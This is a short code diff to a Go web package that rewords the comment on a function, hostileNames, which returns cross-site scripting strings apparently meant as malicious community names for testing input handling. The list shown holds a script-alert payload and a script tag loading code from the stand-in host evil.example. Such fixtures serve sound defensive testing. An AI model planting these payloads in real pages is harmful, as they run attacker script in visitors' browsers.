@@ -1,6 +1,6 @@
 package web
 
-// hostileNames are what a community may be called by someone who means harm.
+// hostileNames are names of communities by an attacker.
 func hostileNames() []string {
 	return []string{
 		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
